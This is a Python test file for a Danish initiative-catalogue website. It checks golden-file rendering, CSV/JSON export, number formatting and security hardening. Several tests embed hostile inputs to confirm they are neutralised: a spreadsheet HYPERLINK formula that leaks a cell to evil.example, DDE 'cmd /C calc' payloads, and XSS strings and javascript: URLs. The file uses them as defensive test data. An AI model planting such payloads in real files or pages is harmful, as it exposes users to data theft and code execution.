"""Rendered pages and open data, compared whole with golden files (refresh: pytest --update-golden)."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import subprocess

import pytest
import yaml

from katalog.catalogue.model import EVIDENCE_SCALE, Evidence, Measurement
from katalog.catalogue.validate import ValidCatalogue, validate_file
from katalog.site import pages
from katalog.site.markdown_safety import is_safe_url
from katalog.views import export
from katalog.views import facts as render
from tests.conftest import FIXTURES, ROOT, TODAY

GOLDEN = ROOT / "tests" / "golden"
EDIT = pages.EditLink("https://github.com/eksempel/katalog", "data/initiatives.yaml", 3, 72)


def _catalogue(name: str = "all_fields.yaml") -> ValidCatalogue:
    report = validate_file(FIXTURES / "valid" / name, ROOT, TODAY)
    assert report.catalogue is not None, [p.text() for p in report.errors]
    return report.catalogue


def _golden(name: str, actual: str, update: bool) -> None:
    path = GOLDEN / name
    if update:
        path.write_bytes(actual.encode("utf-8"))
    assert path.exists(), f"{path} is missing; run pytest --update-golden"
    expected = path.read_bytes().decode("utf-8")
    assert actual.splitlines() == expected.splitlines()
    assert actual == expected


def test_case_page_golden(update_golden: bool) -> None:
    catalogue = _catalogue()
    item = catalogue.initiatives[0]
    _golden("all_fields.case.md", pages.initiative_page(item, catalogue, EDIT, []), update_golden)


def test_overview_golden(update_golden: bool) -> None:
    _golden("all_fields.overview.md", pages.overview_page(_catalogue()), update_golden)


def test_csv_golden(update_golden: bool) -> None:
    _golden("all_fields.csv", export.as_csv(_catalogue()), update_golden)


def test_csv_has_bom_and_one_row_per_initiative() -> None:
    catalogue = _catalogue()
    raw = export.files(catalogue)[export.CSV_NAME]
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert [len(r) for r in rows] == [len(export.CSV_COLUMNS)] * (1 + len(catalogue.initiatives))
    assert rows[1][rows[0].index("organisationer")] == "Roskilde Kommune (kommune) | Beredskabet (beredskab)"


def test_csv_cells_cannot_start_a_formula() -> None:
    """OWASP's rule: a cell starting with = + - @, a tab or a carriage return gets a leading quote mark."""
    catalogue = _catalogue()
    item = catalogue.initiatives[0]
    formula = '=HYPERLINK("https://evil.example/?"&A1;"klik")'
    hostile: dict[str, object] = {
        "name": formula,
        "summary": "+1+cmd|' /C calc'!A0",
        "municipalities": ["-2+3", "Roskilde"],
        "housing_areas": ["@SUM(1+1)*cmd|' /C calc'!A0"],
        "venues": ["\t=1+1"],
    }
    changed = item.model_copy(update=hostile)
    raw = export.files(dataclasses.replace(catalogue, initiatives=[changed]))[export.CSV_NAME]
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    header, row = rows[0], rows[1]
    assert row[header.index("navn")] == "'" + formula
    assert row[header.index("resumé")] == "'+1+cmd|' /C calc'!A0"
    assert row[header.index("kommuner")] == "'-2+3 | Roskilde"
    assert row[header.index("boligområder")] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row[header.index("steder")] == "'\t=1+1"
    assert b"\n=HYPERLINK" not in raw and b";=" not in raw and b';"=' not in raw
    starts = [cell[:1] for r in rows[1:] for cell in r]
    assert not set(starts) & set(export.FORMULA_STARTS)
    assert [export.text_cell(v) for v in ("\r=1", "\t@x", "\uff1d1+1", "Roskilde", "", "12 pct.")] == [
        "'\r=1",
        "'\t@x",
        "'\uff1d1+1",
        "Roskilde",
        "",
        "12 pct.",
    ]


def test_front_matter_holds_any_title() -> None:
    """A title YAML cannot hold raw (C1 controls, a line separator) is escaped, so MkDocs reads it back."""
    for title in ['Navn "x" <b>', "a\x85b\u2028c\x7fd", "--- \n...", "x: y # z", "{: onclick=alert(1) }"]:
        front = pages._yaml_str(title)
        assert "\n" not in front
        assert yaml.safe_load(f"title: {front}") == {"title": pages.esc(render.one_line(title))}


def test_edit_link_path_cannot_end_its_code_span() -> None:
    link = pages.EditLink(None, "x`<img src=x onerror=alert(1)>`.yaml", 1, 2)
    assert link.markdown() == ("Posten står i <code>x`&lt;img src=x onerror=alert(1)&gt;`.yaml, linje 1–2</code>.")


def test_json_keeps_every_field() -> None:
    catalogue = _catalogue()
    data = json.loads(export.files(catalogue)[export.JSON_NAME])
    record = data["initiatives"][0]
    assert record["page"] == "cases/team-ildfugle/"
    assert record == {**catalogue.initiatives[0].model_dump(mode="json"), "page": "cases/team-ildfugle/"}


def test_edit_link_without_repository_names_the_lines() -> None:
    link = pages.EditLink(None, "data/initiatives.yaml", 12, 40)
    assert link.markdown() == "Posten står i <code>data/initiatives.yaml, linje 12–40</code>."
    assert EDIT.markdown() == (
        "[Se posten i data/initiatives.yaml (linje 3–72)]"
        "(https://github.com/eksempel/katalog/blob/main/data/initiatives.yaml#L3-L72)"
        " · [Ret posten](https://github.com/eksempel/katalog/edit/main/data/initiatives.yaml)"
    )


@pytest.mark.parametrize(
    ("value", "expected"),
    [(12.3, "12,3"), (10, "10"), (0.25, "0,2"), (1234.5, "1.234,5"), (58.0, "58"), (3.05, "3")],
)
def test_danish_number(value: float, expected: str) -> None:
    assert render.danish_number(value) == expected


def test_measurements_in_danish() -> None:
    assert render.measurement(Measurement(percent=12.3)) == "12,3 pct."
    assert render.measurement(Measurement(count=1200, unit="deltagere")) == "1.200 deltagere"
    assert render.measurement(Measurement(part=3, whole=4)) == "3 ud af 4"


@pytest.mark.parametrize(
    ("name", "expected"),
    [("Høje-Taastrup", "hoeje-taastrup"), ("Ærø", "aeroe"), ("Brønderslev", "broenderslev"), ("Aabenraa", "aabenraa")],
)
def test_slug(name: str, expected: str) -> None:
    assert pages.slug(name) == expected


@pytest.mark.parametrize(
    ("url", "safe"),
    [
        ("https://example.dk", True),
        ("mailto:a@b.dk", True),
        ("../methods/x/", True),
        ("#afsnit", True),
        ("javascript:alert(1)", False),
        ("JaVaScRiPt:alert(1)", False),
        (" java\tscript:alert(1)", False),
        ("data:text/html,<script>", False),
        ("vbscript:x", False),
    ],
)
def test_unsafe_link_targets(url: str, safe: bool) -> None:
    assert is_safe_url(url) is safe


def test_text_fields_cannot_become_markup() -> None:
    assert pages.md("<b>*x*</b> [a](b)") == r"&lt;b&gt;\*x\*&lt;/b&gt; \[a\]\(b\)"
    assert pages.md_block("## Titel\n\n<script>x</script>") == (
        '<div class="katalog-md">\n<h3>Titel</h3>\n<p>&lt;script&gt;x&lt;/script&gt;</p>\n</div>'
    )
    chart = render.Chart("A<b>", "pct.", (render.Bar("</text><script>", 40, "40 pct.", True),))
    svg = render.chart_svg(chart)
    assert "<script>" not in svg and "&lt;/text&gt;&lt;script&gt;" in svg


def test_headline_prefers_a_figure_with_the_strongest_evidence() -> None:
    catalogue = _catalogue()
    best = render.headline(catalogue.initiatives[0], catalogue.reference)
    assert best is not None and (best.measure, best.value) == ("Andel i løntilskud", "12,3 pct.")
    assert best.chart is not None and [b.text for b in best.chart.bars] == ["12,3 pct.", "10,3 pct."]


def test_card_shows_the_strongest_label_not_the_first() -> None:
    catalogue = _catalogue()
    item = catalogue.initiatives[0]
    weak_first = item.model_copy(update={"results": [item.results[2], item.results[1], item.results[0]]})
    best = render.headline(weak_first, catalogue.reference)
    assert best is not None and best.evidence == Evidence.kontrolgruppe
    assert "Kontrolgruppe (trin 1 af 7)" in pages.card(weak_first, catalogue.reference, "x/")


def test_evidence_page_lists_every_step_from_the_one_table() -> None:
    page = pages.evidence_page(_catalogue())
    headings = [line for line in page.splitlines() if line.startswith("### ")]
    assert headings == [f"### {pages.badge(kind)}" for kind in render.EVIDENCE_ORDER]
    assert [EVIDENCE_SCALE[k].rank for k in render.EVIDENCE_ORDER] == list(range(1, len(EVIDENCE_SCALE) + 1))
    for step in EVIDENCE_SCALE.values():
        assert pages.md(step.explanation) in page


def test_golden_files_have_fixtures() -> None:
    names = sorted(p.name for p in GOLDEN.iterdir())
    assert names == ["all_fields.case.md", "all_fields.csv", "all_fields.overview.md"]


def test_no_generated_page_is_committed() -> None:
    """Record pages exist only at build time: docs/cases/ holds nothing but its placeholder."""
    tracked = subprocess.run(
        ["git", "ls-files", "docs/cases", "docs/malgrupper", "docs/kommuner", "docs/temaer"],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=True,
    ).stdout.split()
    assert tracked == ["docs/cases/.gitkeep"]


def test_content_security_policy() -> None:
    from katalog.site import plugin as mkdocs_hooks

    policy = mkdocs_hooks.content_security_policy()
    assert policy == (
        "default-src 'self'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; img-src 'self' data:; "
        "font-src 'self'; connect-src 'self'; object-src 'none'; base-uri 'self'; form-action 'self'"
    )
    assert "'unsafe-inline'" in mkdocs_hooks.content_security_policy(preview=True)
    page = (
        '<script src="a.js"></script><script id="__config" type="application/json">{}</script>'
        "<p>&lt;script&gt;</p><SCRIPT>alert(1)</SCRIPT><script type=module>x</script>"
    )
    assert mkdocs_hooks.inline_scripts(page) == ["<SCRIPT>", "<script type=module>"]


def test_material_inline_scripts_are_files() -> None:
    """Each override that replaces one of Material's inline scripts names a file that exists."""
    overrides = ROOT / "overrides" / "partials" / "javascripts"
    for template in overrides.glob("*.html"):
        text = template.read_text(encoding="utf-8")
        assert "<script>" not in text, template.name
        for name in re.findall(r"'assets/javascripts/([\w-]+\.js)'", text):
            assert (ROOT / "docs" / "assets" / "javascripts" / name).is_file(), name
    assert "Content-Security-Policy" in (ROOT / "overrides" / "main.html").read_text(encoding="utf-8")
